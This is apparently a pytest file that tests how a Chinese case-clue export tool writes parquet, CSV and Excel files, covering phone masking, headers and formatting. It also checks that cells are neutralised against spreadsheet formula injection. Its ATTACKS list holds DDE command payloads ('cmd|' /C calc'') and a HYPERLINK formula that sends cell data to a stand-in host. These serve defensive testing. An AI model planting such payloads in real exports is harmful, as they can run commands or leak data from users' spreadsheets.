"""Clue lists for people: readable, masked, and dead to a spreadsheet's formulas."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from zbrisk.clues import write_clues
from zbrisk.clues.safe_cell import safe_cell
from zbrisk.errors import DataError

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://x.example/?a="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


def clues(**changed: object) -> pd.DataFrame:
    reasons = [
        {"signal": "a", "contribution": 1.0, "sentence": {"zh": "联系电话13812345678未变", "en": ""}, "evidence": []},
        {"signal": "b", "contribution": -0.5, "sentence": "按约履行", "evidence": []},
        {"signal": "c", "contribution": 0.2, "sentence": "终本后仍有收入", "evidence": []},
    ]
    row = {
        "case_id": "C0013750",
        "as_of": dt.date(2026, 11, 22),
        "target": "concealed_assets",
        "score": -1.19,
        "probability": 0.234,
        "rank": 1,
        "reasons": json.dumps(reasons, ensure_ascii=False),
        "level": "较高",
        "basis": json.dumps({"sentence": {"zh": "复核 22 件，查实 8 件", "en": ""}}, ensure_ascii=False),
    }
    return pd.DataFrame([{**row, **changed}])


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_parquet_keeps_the_table_as_it_is(tmp_path: Path) -> None:
    table = clues(case_id="=1+1")
    read = pd.read_parquet(write_clues(table, tmp_path / "c.parquet"))
    assert list(read.columns) == list(table.columns)
    assert read.loc[0, "case_id"] == "=1+1"
    assert json.loads(str(read.loc[0, "reasons"]))[0]["signal"] == "a"


def test_csv_has_a_mark_chinese_headers_and_sentences(tmp_path: Path) -> None:
    path = write_clues(clues(), tmp_path / "c.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    (row,) = read_csv(path)
    assert list(row)[:3] == ["排名", "案件编号", "事项"]
    assert (row["事项"], row["等级"], row["评估日"]) == ("隐匿财产", "较高", "2026-11-22")
    assert row["等级依据"] == "复核 22 件，查实 8 件" and "0.234" not in row.values()
    said = next(value for header, value in row.items() if "主要理由" in header)
    assert said == "1. 联系电话138****5678未变\n2. 终本后仍有收入"


def test_xlsx_is_ready_to_work_with(tmp_path: Path) -> None:
    sheet = load_workbook(write_clues(clues(as_of=pd.Timestamp("2026-11-22")), tmp_path / "c.xlsx")).active
    assert [cell.value for cell in sheet[1]][:3] == ["排名", "案件编号", "事项"]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:H2")
    assert sheet.column_dimensions["F"].width == 90
    rank, level, as_of = sheet["A2"], sheet["D2"], sheet["G2"]
    assert (rank.value, rank.data_type) == (1, "n")
    assert level.value == "较高" and not any("%" in cell.number_format for cell in sheet[2])
    assert as_of.value == dt.datetime(2026, 11, 22)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_a_formula(attack: str, tmp_path: Path) -> None:
    table = clues(case_id=attack, reasons=json.dumps([{"contribution": 1, "sentence": attack}]), memo=attack)
    (row,) = read_csv(write_clues(table, tmp_path / "c.csv"))
    assert all(value[:1] not in "=+-@\t\r\n＝＋－＠" or value in ("-1.19", "") for value in row.values())
    sheet = load_workbook(write_clues(table, tmp_path / "c.xlsx")).active
    assert "f" not in {cell.data_type for line in sheet.iter_rows() for cell in line}
    assert sheet["B2"].quotePrefix and sheet["B2"].number_format == "@"


@pytest.mark.parametrize("case", ["-C2", "=C3", "+4", "@C5", " =C6", "'=C7", "'C8"])
def test_a_workbook_and_parquet_keep_ids_as_they_are(case: str, tmp_path: Path) -> None:
    assert load_workbook(write_clues(clues(case_id=case), tmp_path / "c.xlsx")).active["B2"].value == case
    assert pd.read_parquet(write_clues(clues(case_id=case), tmp_path / "c.parquet"))["case_id"].item() == case


def test_a_header_can_be_no_formula_either(tmp_path: Path) -> None:
    (row,) = read_csv(write_clues(clues(**{"=1+1": 3}), tmp_path / "c.csv"))
    assert "'=1+1" in row


@pytest.mark.parametrize("value", [-1.5, 0, None, True, dt.date(2024, 1, 1), "王某", "（2024）浙0602执1号", "5-3"])
def test_numbers_dates_and_plain_texts_stay(value: object) -> None:
    assert safe_cell(value) is value or safe_cell(value) == value


def test_what_a_workbook_cannot_hold_is_left_out(tmp_path: Path) -> None:
    sheet = load_workbook(write_clues(clues(case_id="C\x00\x0b1", memo="长" * 40_000), tmp_path / "c.xlsx")).active
    assert sheet["B2"].value == "C1"
    assert len(sheet["I2"].value) <= 32_767


def test_an_empty_list_is_a_list(tmp_path: Path) -> None:
    assert read_csv(write_clues(clues().head(0), tmp_path / "c.csv")) == []
    assert load_workbook(write_clues(clues().head(0), tmp_path / "c.xlsx")).active.max_row == 1


def test_missing_values_are_empty_cells(tmp_path: Path) -> None:
    table = clues(score=float("nan"), reasons=None)
    assert load_workbook(write_clues(table, tmp_path / "c.xlsx")).active["H2"].value is None


def test_another_ending_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
    with pytest.raises(DataError, match=r"\.parquet, \.csv, \.xlsx"):
        write_clues(clues(), tmp_path / "c.txt")
    with pytest.raises(DataError, match="lack reasons"):
        write_clues(clues().drop(columns="reasons"), tmp_path / "c.csv")
    assert list(tmp_path.iterdir()) == []
